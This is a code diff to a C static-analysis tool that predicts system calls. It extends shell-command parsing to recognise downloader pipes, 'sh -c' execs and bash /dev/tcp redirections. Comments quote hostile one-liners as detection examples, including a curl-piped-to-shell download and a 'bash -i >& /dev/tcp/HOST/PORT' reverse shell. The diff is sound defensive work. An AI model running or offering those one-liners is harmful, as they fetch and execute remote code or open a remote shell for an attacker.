@@ -292,21 +292,24 @@ static void open_call(struct an *a, const struct callsite *c, bool predict, cons
 				 "%s(\"%s\") for writing", c->name, path);
 }
 
+#define DCAM_SHELL_CMD_LEN 1024
+
 /* A shell command line: /bin/sh, then every pipeline stage whose program
- * is a shell or a downloader ("curl -s http://x | sh"). */
-static void shell_command(struct an *a, const struct callsite *c, const char *cmd)
+ * is a shell or a downloader ("curl -s http://x | sh", quoted or not:
+ * "bash -c 'curl …'"), then the connections bash's /dev/tcp and /dev/udp
+ * redirections make — each a socket connected and put on a descriptor
+ * ("bash -i >& /dev/tcp/HOST/PORT 0>&1": the reverse shell one-liner). */
+static void shell_command_body(struct an *a, const struct callsite *c, const char *cmd)
 {
 	char buf[DCAM_ARG_LEN];
-	const char *p = cmd;
+	const char *p = cmd, *net;
 
-	emit(a, c, "clone:process", cmd);
-	emit(a, c, "execve:shell", cmd);
 	while (p && *p) {
 		size_t n;
 		const char *tok;
 
-		p += strspn(p, " \t|;&()`\n$");
-		n = strcspn(p, " \t|;&()`\n");
+		p += strspn(p, " \t|;&()`\n$'\"");
+		n = strcspn(p, " \t|;&()`\n'\"");
 		if (!n)
 			break;
 		if (memchr(p, '=', n) && !memchr(p, '/', n)) { /* VAR=value before the program */
@@ -322,6 +325,31 @@ static void shell_command(struct an *a, const struct callsite *c, const char *cm
 		/* the rest of this stage are its arguments */
 		p += strcspn(p, "|;&()`\n");
 	}
+	for (net = cmd; net && (net = strstr(net, "/dev/")); net += 5) {
+		if (strncmp(net + 5, "tcp/", 4) && strncmp(net + 5, "udp/", 4))
+			continue;
+		snprintf(buf, sizeof(buf), "%.*s", (int)strcspn(net, " \t|;&()`\n'\"<>"), net);
+		emit(a, c, "socket:inet", buf);
+		emit(a, c, "connect:inet", buf);
+		emit(a, c, "dup2:socket", buf);
+	}
+}
+
+static void shell_command(struct an *a, const struct callsite *c, const char *cmd)
+{
+	emit(a, c, "clone:process", cmd);
+	emit(a, c, "execve:shell", cmd);
+	shell_command_body(a, c, cmd);
+}
+
+/* execl("/bin/sh", "sh", "-c", CMD): the shell runs CMD (its option
+ * cluster holds a "c": -c, -ic, -lc). */
+static void shell_exec_command(struct an *a, const struct callsite *c, const char *opt)
+{
+	char cmd[DCAM_SHELL_CMD_LEN];
+
+	if (opt && opt[0] == '-' && opt[1] != '-' && strchr(opt, 'c'))
+		shell_command_body(a, c, arg_str(a, c, 3, cmd, sizeof(cmd)));
 }
 
 static const struct pmap *lookup(const char *name)
@@ -396,17 +424,25 @@ void dcam_predict_call(struct an *a, const struct callsite *c, bool predict, uin
 			return;
 		if (m->kind == P_SPAWN)
 			emit(a, c, "clone:process", path);
-		emit(a, c, tokclass_exec(path, path ? multicall_applet(path,
+		token = tokclass_exec(path, path ? multicall_applet(path,
 						arg_str(a, c, a1, s1, sizeof(s1)),
-						arg_str(a, c, a2, s2, sizeof(s2))) : NULL), path);
+						arg_str(a, c, a2, s2, sizeof(s2))) : NULL);
+		emit(a, c, token, path);
+		if (!strcmp(token, "execve:shell") && a2 == 2)
+			shell_exec_command(a, c, arg_str(a, c, a2, s2, sizeof(s2)));
 		return;
 	case P_EXECVEAT:
 		token = y.kind == RK_CONST && (y.val & X_AT_EMPTY_PATH) ? "execveat:fd" : "execveat";
 		break;
-	case P_SHELL:
+	case P_SHELL: {
+		/* one-liners run long (a reverse shell through a fifo, a
+		 * download piped to a shell and then cleaned up) */
+		char cmd[DCAM_SHELL_CMD_LEN];
+
 		if (predict)
-			shell_command(a, c, arg_str(a, c, a0, s0, sizeof(s0)));
+			shell_command(a, c, arg_str(a, c, a0, cmd, sizeof(cmd)));
 		return;
+	}
 	case P_SOCKET: {
 		uint64_t fam = x.kind == RK_CONST ? x.val : SOCK_FAMILY_UNKNOWN;
 
